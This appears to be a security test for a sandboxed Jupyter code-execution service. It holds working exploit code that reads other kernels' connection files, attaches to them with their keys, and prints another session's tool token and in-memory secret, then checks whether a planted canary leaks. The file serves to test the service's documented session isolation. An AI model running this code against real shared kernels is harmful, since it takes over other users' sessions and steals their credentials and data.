# SPDX-License-Identifier: Apache-2.0
"""A cell runs code in another session's kernel over its sockets, and takes that one's tool token."""

from box import Box

BREAKS = ("SECURITY.md", "it opens neither the approval channel nor another kernel's calls")

CODE = """
import json, jupyter_client, ipykernel.kernelapp as k
own = k.IPKernelApp.instance().session.key.decode()
for path in w.below_runtime('**/connection.json'):
    text = w.tried(lambda: w.read(path))
    if not text or json.loads(text)['key'] == own:
        continue
    client = jupyter_client.BlockingKernelClient()
    client.load_connection_info(json.loads(text))
    client.start_channels(hb=False)
    code = "import os; print('TAKEN', os.environ.get('IPYBOX_TOOL_TOKEN'), the_secret)"
    try:
        client.execute_interactive(code, timeout=1)
    except Exception as error:
        print('no:', error)
    client.stop_channels()
"""


def attack(box: Box) -> str:
    other = box.session()
    box.cell("the_secret = 'CANARY' + '-in-memory'", other)
    told = box.cell(CODE)
    return told if "CANARY-in-memory" in told else ""
